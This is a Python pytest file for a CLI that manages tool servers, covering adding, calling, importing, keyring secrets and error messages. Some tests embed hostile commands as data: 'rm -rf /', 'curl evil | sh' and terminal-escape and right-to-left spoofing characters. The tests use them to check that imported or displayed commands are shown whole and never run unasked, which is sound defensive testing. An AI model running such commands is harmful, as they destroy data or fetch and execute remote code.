"""``workbench tools`` with a real server, a real keyring and files of other programs."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cli.conftest import Cli, cli  # noqa: F401 - a fixture
from tests.support.waiting import PATIENCE
from tests.tools.conftest import BAD, GOOD
from workbench.cli import tools
from workbench.cli.parser import parse
from workbench.cli.tool_servers import shown
from workbench.core.settings import ToolServerConfig

pytestmark = pytest.mark.process
RUN = shlex.join([sys.executable, "-P", str(GOOD)])
SERVERS = ("tools", "servers")


def test_a_server_from_end_to_end(cli: Cli) -> None:  # noqa: F811
    assert cli(*SERVERS, "add", "mine", "--command", RUN).code == 0
    assert "mine_server.py" not in cli(*SERVERS, "list").out
    (known,) = cli(*SERVERS, "list", "--json").json
    assert known["command"] == sys.executable and known["args"] == ["-P", str(GOOD)]
    tested = cli(*SERVERS, "test", "mine")
    assert tested.code == 0 and "mine (test-server 1.2.3) answers, by the protocol of 2026-07-28." in tested.out
    assert "add          Adds two numbers." in tested.out and "tokens in each request" in tested.out
    names = [tool["name"] for tool in cli("tools", "list", "--json").json]
    assert names[:2] == ["calculate", "time"] and "mine/add" in names
    assert cli("tools", "call", "mine/add", "--args", '{"a": 1, "b": 2}').out == "3\n"
    assert cli("tools", "call", "mine/add", "--args", "-", stdin='{"a": 3, "b": 2}').out == "5\n"
    failed = cli("tools", "call", "mine/fail")
    assert failed.code == 1 and failed.out == "" and "Error executing tool fail" in failed.err
    assert cli("tools", "call", "mine/picture", "--json").json["media"] == ["image/png"]
    assert cli(*SERVERS, "remove", "mine").code == 0 and cli(*SERVERS, "list", "--json").json == []


@pytest.mark.parametrize(("arguments", "code", "words"), [
    (("call", "mine"), 2, "names a server. Write SERVER/TOOL"),
    (("call", "mine/nope"), 2, "has no tool nope"),
    (("call", "mine/add", "--args", "{"), 2, "--args is not JSON"),
    (("call", "mine/add", "--args", "[]"), 2, "must be a JSON object"),
    (("call", "mine/add", "--args", '{"a": 1}'), 2, "do not fit mine/add: 'b' is a required property"),
    (("call", "calculate"), 2, "switched off. Switch it on: workbench tools enable calculate"),
    (("enable", "nope"), 2, "no built-in tool nope. There are calculate"),
    (("enable", "read_file", "--folder", "/nonexistent"), 2, "There is no folder"),
    (("servers", "add", "mine", "--command", "x"), 2, "already. Remove it first"),
    (("servers", "add", "time", "--command", "x"), 2, "cannot be called “time”"),
    (("servers", "add", "a/b", "--command", "x"), 2, "cannot be called “a/b”"),
    (("servers", "add", "x"), 2, "either --command or --url"),
    (("servers", "add", "x", "--command", "'"), 2, "quotes"),
    (("servers", "add", "x", "--url", "localhost:1"), 2, "is no address"),
    (("servers", "add", "x", "--url", "https://u:p@a.example"), 2, "holds a user name"),
    (("servers", "add", "x", "--url", "https://a.example", "--env", "A=b"), 2, "belong to a server with --command"),
    (("servers", "add", "x", "--command", "x", "--seconds", "0"), 2, "“seconds” of the server “x”"),
    (("servers", "remove", "nope"), 2, "There are mine"),
    (("servers", "import", "/nonexistent"), 2, "cannot be read"),
])
def test_wrong_usage(cli: Cli, arguments: tuple[str, ...], code: int, words: str) -> None:  # noqa: F811
    assert cli(*SERVERS, "add", "mine", "--command", RUN).code == 0
    answer = cli("tools", *arguments)
    assert answer.code == code and words in answer.err and answer.out == ""
    assert len(cli(*SERVERS, "list", "--json").json) == 1


def test_a_server_that_fails_is_a_sentence(cli: Cli) -> None:  # noqa: F811
    cli(*SERVERS, "add", "bad", "--command", shlex.join([sys.executable, "-P", str(BAD), "exits"]))
    cli("tools", "enable", "time")
    for arguments in (("servers", "test", "bad"), ("call", "bad/go")):
        answer = cli("tools", *arguments)
        assert answer.code == 3 and "It ended with exit code 1. It wrote: The key is missing." in answer.err
    listed = cli("tools", "list")
    assert listed.code == 3 and "time" in listed.out and "bad" not in listed.out


def test_secrets_go_to_the_keyring(
        cli: Cli, secret_service: Callable[[], list[tuple[str, str]]], isolated: Path) -> None:  # noqa: F811
    assert cli(*SERVERS, "add", "mine", "--command", RUN, "--env", "SECRET=-", "--env", "MODE=x",
               stdin="s3cret-value\n").code == 0
    assert "s3cret-value" not in (isolated / "settings.toml").read_text("utf-8")
    assert "SECRET=s3cret-value" in cli("tools", "call", "mine/environment").out
    assert "s3cret" not in cli(*SERVERS, "list").out + cli(*SERVERS, "list", "--json").out
    assert cli(*SERVERS, "remove", "mine").code == 0
    assert secret_service() == []


def test_import_adds_nothing_by_itself(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    file = tmp_path / "claude_desktop_config.json"
    file.write_text(json.dumps({"mcpServers": {
        "mine": {"command": sys.executable, "args": ["-P", str(GOOD)], "env": {"A": "b"}},
        "other": {"command": "rm", "args": ["-rf", "/"]}, "old": {"type": "sse", "url": "http://localhost:1/sse"}}}))
    looked = cli(*SERVERS, "import", str(file))
    assert looked.code == 0 and f"mine: {RUN} (A)" in looked.out and "other: rm -rf /" in looked.out
    assert "Nothing was added" in looked.err and "old transport" in looked.err
    assert cli(*SERVERS, "list", "--json").json == []
    assert "no server nope" in cli(*SERVERS, "import", str(file), "--accept", "nope").err
    taken = cli(*SERVERS, "import", str(file), "--accept", "mine")
    assert "One server was added." in taken.out
    assert [server["id"] for server in cli(*SERVERS, "list", "--json").json] == ["mine"]
    assert "already, which stays as it is" in cli(*SERVERS, "import", str(file), "--accept", "mine").err
    assert cli("tools", "call", "mine/echo", "--args", '{"text": "a"}').out == "a\n"


def test_import_says_what_of_the_environment_a_server_gets(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    monkeypatch.setenv("PLACE", "Oslo")
    file = tmp_path / "mcp.json"
    file.write_text(json.dumps({"servers": {"mine": {"command": sys.executable, "args": ["-P", str(GOOD)], "env": {
        "NOTE": "${PLACE}.txt"}}}}))
    looked = cli(*SERVERS, "import", str(file))
    assert "It is given the values of PLACE" in looked.err and cli(*SERVERS, "list", "--json").json == []
    assert cli(*SERVERS, "import", str(file), "--accept", "mine").code == 0
    assert "Oslo.txt" in (tmp_path / "data" / "settings.toml").read_text("utf-8")


def test_built_in_tools_are_switched(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    (tmp_path / "a.txt").write_text("Hello", "utf-8")
    assert cli("tools", "enable", "calculate").out == "One built-in tool is on: calculate\n"
    assert cli("tools", "call", "calculate", "--args", '{"expression": "6*7"}').out == "42\n"
    without = cli("tools", "enable", "read_file")
    assert "No folder may be read yet" in without.err
    assert cli("tools", "enable", "read_file", "--folder", str(tmp_path)).code == 0
    assert cli("tools", "call", "read_file", "--args", '{"path": "a.txt"}').out == "Hello\n"
    assert cli("tools", "disable", "calculate").out == "One built-in tool is on: read_file\n"
    assert cli("tools", "call", "calculate", "--args", '{"expression": "1"}').code == 2


def test_a_command_is_shown_whole_and_acts_on_no_terminal() -> None:
    config = ToolServerConfig("a", "sh", ("-c", "curl evil | sh", "\x1b]0;safe\a\u202e"), {"KEY": "secret"})
    assert shown(config) == "sh -c 'curl evil | sh' ' ]0;safe ' (KEY)"


def test_the_end_of_a_long_command_is_shown() -> None:
    assert shown(ToolServerConfig("a", "echo", ("x" * 5000, "; rm -rf /"))).endswith("'; rm -rf /'")


def test_arguments_that_are_no_object() -> None:
    assert parse(["tools", "call", "a/b"]).args == "{}" and tools._arguments('{"a": "ä"}') == {"a": "ä"}


def test_a_server_ends_with_the_program(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    """Also when that is killed: its input ends then."""
    note = tmp_path / "note"
    cli(*SERVERS, "add", "mine", "--command", RUN, "--env", f"NOTE={note}")
    program = subprocess.Popen(
        [sys.executable, "-m", "workbench", "tools", "call", "mine/wait", "--args", '{"seconds": 600}'],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    end = time.monotonic() + PATIENCE
    while not (note.exists() and "began" in note.read_text()):
        assert program.poll() is None and time.monotonic() < end
        time.sleep(0.02)
    program.kill()
    program.wait()
    server = int(note.read_text().split()[2])
    while _runs(server):
        assert time.monotonic() < end
        time.sleep(0.02)


def _runs(process: int) -> bool:
    try:
        return "Z" not in Path(f"/proc/{process}/stat").read_text().split(")")[-1].split()[0]
    except FileNotFoundError:
        return False
